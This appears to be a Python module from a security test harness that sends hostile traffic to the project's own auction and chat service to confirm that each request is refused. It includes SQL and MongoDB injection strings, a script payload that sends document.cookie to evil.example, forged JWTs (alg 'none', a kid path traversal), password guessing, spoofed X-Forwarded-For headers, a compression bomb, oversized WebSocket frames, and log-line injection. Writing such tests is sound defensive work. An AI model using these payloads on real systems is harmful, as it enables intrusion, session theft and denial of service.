"""The intrusions: what somebody sends who wants in, or wants to be somebody else.

Few clients each: it is not their number that does harm. Every one of them must be refused, or
answered as anybody's honest question would be.
"""

import itertools
import json
import zlib
from base64 import urlsafe_b64encode
from collections.abc import Callable, Sequence
from urllib.parse import quote
from uuid import uuid4

from stack.hostile.abuses import Abuse, Target
from stack.hostile.frames import (
    COMPRESSED,
    TEXT,
    bearer,
    frame,
    handshake,
    message,
    post,
    request,
)

INTRUDERS = 10
OPERATORS = ("' OR 1=1 --", '{"$gt":""}', "'; DROP TABLE bids --", "$where:1", "_%_%")
SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"
BOMB = zlib.compress(bytes(10_000_000))


def turns(sent: Sequence[bytes], per_s: float = 2, *, addresses: int = INTRUDERS) -> Abuse:
    """Each of a few clients sends one after the other."""
    return Abuse(
        burst=lambda n: sent[n % len(sent)], per_s=per_s, clients=INTRUDERS, addresses=addresses
    )


def on_sockets(target: Target, burst: Callable[[int], bytes], per_s: float = 2) -> Abuse:
    """Each of a few people sends on a socket."""
    return Abuse(
        burst=burst,
        per_s=per_s,
        opening=handshake(target.origin),
        after_opening=tuple(message(-1, "auth", token=token) for token in target.intruders),
        clients=INTRUDERS,
        addresses=INTRUDERS,
    )


def foreign_origins(target: Target) -> Abuse:
    """Pages of other origins that open a socket."""
    origins = (
        "https://evil.example", "null", f"{target.origin}.evil.example", f"{target.origin}1",
        target.origin.replace("http", "https"), f"{target.origin}/",
    )  # fmt: skip
    return turns([handshake(origin) for origin in origins])


def foreign_refreshes(_: Target) -> Abuse:
    """Pages of other origins that use a visitor's cookie."""
    forged = "Origin: https://evil.example\r\nCookie: refresh_token=0.0\r\n"
    return turns([request("POST", f"/api/auth/{what}", forged) for what in ("refresh", "logout")])


def forged_tokens(target: Target) -> Abuse:
    """Access tokens without a signature, and with one of another key."""
    _, claims, signature = target.intruders[0].split(".")
    headers = ({"alg": "none"}, {"alg": "HS256", "kid": "../../dev/null"}, {"alg": "RS256"})
    parts = [urlsafe_b64encode(json.dumps(each).encode()).rstrip(b"=").decode() for each in headers]
    tokens = [f"{part}.{claims}.{end}" for part in parts for end in ("", signature, "AAAA")]
    return turns([request("GET", "/api/me", bearer(token)) for token in tokens])


def forged_tokens_on_sockets(target: Target) -> Abuse:
    """The same on sockets."""
    forged = message(-1, "auth", token=target.intruders[0][:-4] + "AAAA")
    return Abuse(
        burst=lambda n: message(n, "time", client_ms=1),
        per_s=1,
        opening=handshake(target.origin),
        after_opening=(forged,),
        clients=INTRUDERS,
        addresses=INTRUDERS,
    )


def guesses(target: Target) -> Abuse:
    """Passwords of one account, from ten addresses of one network."""
    tried = [
        post("/api/auth/login", {"email": target.victim, "password": f"password{number}!"})
        for number in range(100)
    ]
    return turns(tried, 1)


def bad_sign_ups(_: Target) -> Abuse:
    """Names of the house's people, spelt with letters that look alike, and common passwords."""
    names = ("\u0430dmin", "운영자", "Supp\u03bfrt", SCRIPT[:30], "a\u202eb")
    return turns(
        [
            post(
                "/api/auth/signup",
                {
                    "email": f"{uuid4().hex}@example.org",
                    "password": "password123",
                    "nickname": name,
                },
            )
            for name in names
        ]
    )


def others_things(target: Target) -> Abuse:
    """What only admins, sellers and members may do, by a user who is none of them."""
    anonymous = bearer(target.intruders[0])
    lot_id = target.lot_ids[0]
    return turns(
        [
            request("GET", "/api/admin/dead-letters", anonymous),
            post("/api/admin/dead-letters/replay", {"ids": [1]}, anonymous),
            post(f"/api/auctions/{lot_id}/cancel", {"reason": "mine"}, anonymous),
            request("GET", f"/api/bids/{uuid4()}", anonymous),
            request("GET", "/api/me"),
        ]
    )


def forged_addresses(_: Target) -> Abuse:
    """One client that says that it is many, where ten calls a minute are allowed to each."""
    spoofed = [
        post("/api/auth/login", {}, f"X-Forwarded-For: 10.0.{n // 256}.{n % 256}\r\n")
        for n in range(1_000)
    ]
    return turns(spoofed, 4, addresses=1)


def operators(_: Target) -> Abuse:
    """Operators of SQL and MongoDB, in queries and bodies."""
    queries = [request("GET", f"/api/products?query={quote(text)}") for text in OPERATORS]
    bodies = [
        post("/api/auth/login", {"email": {"$gt": ""}, "password": {"$ne": None}}),
        request("GET", "/api/auctions?status[$ne]=open&cursor=%27%3B--"),
    ]
    return turns(queries + bodies)


def bad_bodies(_: Target) -> Abuse:
    """JSON that nests, repeats itself, is huge in its numbers, or is none."""
    bodies = (
        b"[" * 60_000, b'{"email":NaN}', b'{"email":' + b"9" * 5_000 + b"}", b"\xff\xfe",
        b'{"a":1e999}', b'{"email":"a@b.c","email":"d@e.f","password":"x"}',
    )  # fmt: skip
    return turns([post("/api/auth/login", body) for body in bodies])


def bad_frames(target: Target) -> Abuse:
    """The same in frames: each ends its socket."""
    texts = (b"[" * 20_000, b'{"id":NaN}', b'{"id":1e999,"type":"time"}', b"x", b'{"id":0}')
    which = itertools.cycle([frame(TEXT, text) for text in texts])
    return on_sockets(target, lambda _: next(which))


def huge_frames(target: Target) -> Abuse:
    """A frame of 40 KB, and the promise of one of 4 GB."""
    sent = [frame(TEXT, b" " * 40_000), b"\x81\xff" + (1 << 32).to_bytes(8, "big") + bytes(4)]
    return on_sockets(target, lambda n: sent[n % 2])


def compressed_frames(target: Target) -> Abuse:
    """Ten kilobytes that would be ten megabytes."""
    sent = frame(TEXT, BOMB, flags=COMPRESSED)
    return on_sockets(target, lambda _: sent)


def chat_flood(target: Target) -> Abuse:
    """Members who say ten times as much as they may, and scripts."""
    said = {"room_id": target.room_id, "text": SCRIPT}
    return on_sockets(target, lambda n: message(n, "chat.send", key=uuid4().hex, **said), 10)


def hopeless_bids(target: Target) -> Abuse:
    """Bids that the rules refuse, of which each is a record all the same."""
    lot_id = target.lot_ids[0]
    return on_sockets(
        target,
        lambda n: message(n, "bid.place", auction_id=lot_id, amount=1, key=uuid4().hex),
        20,
    )


def lines_for_the_log(_: Target) -> Abuse:
    """Line ends and lines of a log, in whatever may be written into one."""
    line = "%0d%0a%7B%22event%22:%22logged_in%22%7D"
    return turns(
        [
            request("GET", f"/api/{line}"),
            request("GET", f"/api/products?query={line}", f"User-Agent: {SCRIPT}\x1b[31m\r\n"),
            post("/api/auth/login", {"email": 'a@b.c\n{"event":"x"}', "password": "x"}),
        ]
    )


INTRUSIONS: dict[str, Callable[[Target], Abuse]] = {
    make.__name__: make
    for make in (
        foreign_origins,
        foreign_refreshes,
        forged_tokens,
        forged_tokens_on_sockets,
        guesses,
        bad_sign_ups,
        others_things,
        forged_addresses,
        operators,
        bad_bodies,
        bad_frames,
        huge_frames,
        compressed_frames,
        chat_flood,
        hopeless_bids,
        lines_for_the_log,
    )
}
